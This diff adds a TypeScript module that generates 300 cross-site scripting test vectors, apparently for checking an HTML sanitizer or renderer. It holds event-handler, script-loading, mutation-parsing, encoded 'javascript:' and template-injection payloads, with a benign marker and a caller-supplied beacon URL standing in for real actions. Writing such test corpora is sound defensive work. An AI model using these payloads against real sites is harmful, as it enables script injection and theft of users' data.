@@ -1,0 +1,172 @@
+// 300 ways in which text tries to become a program or a request: every event on elements that fire by themselves, every
+// element that loads or runs something, broken markup that parsers mend differently, addresses that are scripts, and CSS.
+
+/** Elements that load, and so fail or finish without the reader's help. */
+const LOADING = [
+  'img src=x',
+  'video src=x',
+  'audio src=x',
+  'svg',
+  'body',
+  'iframe src=BEACON',
+  'input type=image src=x',
+  'link rel=stylesheet href=BEACON',
+  'object data=BEACON',
+  'marquee',
+];
+const EVENTS = [
+  'onerror',
+  'onload',
+  'onfocus',
+  'onanimationstart',
+  'onbegin',
+  'ontoggle',
+  'onpointerenter',
+  'onstart',
+  'onscrollend',
+  'onloadstart',
+  'onpageshow',
+  'oncontentvisibilityautostatechange',
+];
+/** Ways to write one attribute. */
+const WRITINGS = [(event: string) => `${event}="RUN"`, (event: string) => `${event.toUpperCase()}=RUN autofocus tabindex=1`];
+
+const RUNNING = [
+  '<script>RUN</script>',
+  '<script src=BEACON></script>',
+  '<script type=module>RUN</script>',
+  '<SCRIPT/x>RUN</SCRIPT>',
+  '<script\n>RUN</script\n>',
+  '<scr<script>ipt>RUN</scr</script>ipt>',
+  '<svg><script>RUN</script></svg>',
+  '<svg><script href=BEACON /></svg>',
+  '<math><script>RUN</script></math>',
+  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
+  '<iframe src="javascript:RUN"></iframe>',
+  '<object data="javascript:RUN"></object>',
+  '<embed src="javascript:RUN">',
+  '<embed src=BEACON>',
+  '<base href="BEACON"><a href="x">x</a>',
+  '<meta http-equiv=refresh content="0;url=BEACON">',
+  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
+  '<form action="javascript:RUN"><button autofocus>x</button></form>',
+  '<form><button formaction="javascript:RUN">x</button></form>',
+  '<isindex action="javascript:RUN" type=image>',
+  '<details open ontoggle=RUN>x</details>',
+  '<template><script>RUN</script></template>',
+  '<div><template shadowrootmode=open><script>RUN</script></template></div>',
+  '<portal src=BEACON></portal>',
+  '<link rel=preload as=image href=BEACON>',
+  '<link rel=prefetch href=BEACON>',
+  '<link rel=dns-prefetch href=BEACON>',
+  '<link rel=import href=BEACON>',
+  '<img src=BEACON>',
+  '<img srcset="BEACON 2x">',
+  '<picture><source srcset=BEACON><img></picture>',
+  '<video poster=BEACON></video>',
+  '<audio src=BEACON autoplay></audio>',
+  '<track src=BEACON>',
+  '<svg><image href=BEACON /></svg>',
+  '<svg><use href="BEACON#x" /></svg>',
+  '<svg><feImage href=BEACON /></svg>',
+  '<svg><a href="javascript:RUN"><text y=20>x</text></a></svg>',
+  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
+  '<svg><set onbegin=RUN attributename=x></svg>',
+  '<svg><animate attributeName=href values="javascript:RUN" /></svg>',
+  '<table background=BEACON><td background=BEACON>',
+  '<body background=BEACON>',
+  '<input type=image src=BEACON>',
+  '<bgsound src=BEACON>',
+  '<frameset onload=RUN><frame src=BEACON></frameset>',
+  '<p style="background:url(BEACON)">x</p>',
+  '<style>@import "BEACON";</style>',
+  '<style>*{background:url(BEACON)}</style>',
+  '<p style="behavior:url(BEACON)">x</p>',
+  '<style>@font-face{font-family:x;src:url(BEACON)}p{font-family:x}</style>',
+  '<div style="list-style-image:url(BEACON)"><li>x</div>',
+  '<p style="width:expression(RUN)">x</p>',
+];
+/** Each parser mends these in its own way; a text that is parsed twice becomes another. */
+const MENDED = [
+  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
+  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=RUN>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
+  '<title><a title="</title><img src=x onerror=RUN>">',
+  '<textarea><img title="</textarea><img src=x onerror=RUN>">',
+  '<!--><img src=x onerror=RUN>-->',
+  '<!--[if gte IE 4]><script>RUN</script><![endif]-->',
+  '<![CDATA[<img src=x onerror=RUN>]]>',
+  '<?xml-stylesheet href="javascript:RUN"?>',
+  '<xmp><img title="</xmp><img src=x onerror=RUN>"></xmp>',
+  '<plaintext><img src=x onerror=RUN>',
+  '<select><style><img src=x onerror=RUN></style></select>',
+  '<img src="x` `<script>RUN</script>"` `>',
+  '<img """><script>RUN</script>">',
+  '<<img src=x onerror=RUN>>',
+  '<img/src=x/onerror=RUN>',
+  '<img src=x onerror\n=\nRUN>',
+  '<img src=x\tonerror=RUN//',
+  '<a href="x" id=x name=y><img src=x onerror=RUN>',
+  '&lt;img src=x onerror=RUN&gt;',
+  '&amp;lt;img src=x onerror=RUN&amp;gt;',
+  '&#60;img src=x onerror=RUN&#62;',
+  '&#x3C;script&#x3E;RUN&#x3C;/script&#x3E;',
+  '\u003cimg src=x onerror=RUN\u003e',
+  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
+  '%3Cimg src=x onerror=RUN%3E',
+  '＜img src=x onerror=RUN＞',
+  '"><img src=x onerror=RUN>',
+  "'><img src=x onerror=RUN>",
+  '--><img src=x onerror=RUN>',
+  '</script><script>RUN</script>',
+  '</style><img src=x onerror=RUN>',
+  ']]><img src=x onerror=RUN>',
+  '{{constructor.constructor("RUN")()}}',
+  '$' + '{RUN}',
+  '<%= RUN %>',
+  '#{RUN}',
+  '[[RUN]]',
+];
+const ADDRESSES = [
+  'javascript:RUN',
+  'JaVaScRiPt:RUN',
+  'java\tscript:RUN',
+  'java\nscript:RUN',
+  ' javascript:RUN',
+  '\u0001javascript:RUN',
+  'javascript&colon;RUN',
+  'javascript&#58;RUN',
+  '&#106;avascript:RUN',
+  'vbscript:RUN',
+  'data:text/html,<script>RUN</script>',
+  'data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4=',
+  'blob:RUN',
+  'filesystem:RUN',
+  'view-source:javascript:RUN',
+  'jar:javascript:RUN',
+  'about:blank#RUN',
+  '//BEACON',
+  'https://user:pass@BEACON',
+  'feed:javascript:RUN',
+];
+
+export interface Vector {
+  readonly text: string;
+}
+
+/** All of them; what runs sets a mark on the document (`data-ran`), what requests asks `beacon`. */
+export function vectors(beacon: string): readonly string[] {
+  const events = LOADING.flatMap((element) => EVENTS.flatMap((event) => WRITINGS.map((write) => `<${element} ${write(event)}>`)));
+  const all = [
+    ...RUNNING,
+    ...MENDED,
+    ...ADDRESSES.flatMap((address) => [`<a href="${address}">x</a>`, `<iframe src="${address}"></iframe>`]),
+    ...events,
+  ];
+  return all
+    .slice(0, 300)
+    .map((text, n) =>
+      text.replaceAll('RUN', `document.documentElement.setAttribute('data-ran',${n})`).replaceAll('BEACON', `${beacon}?${n}`),
+    );
+}
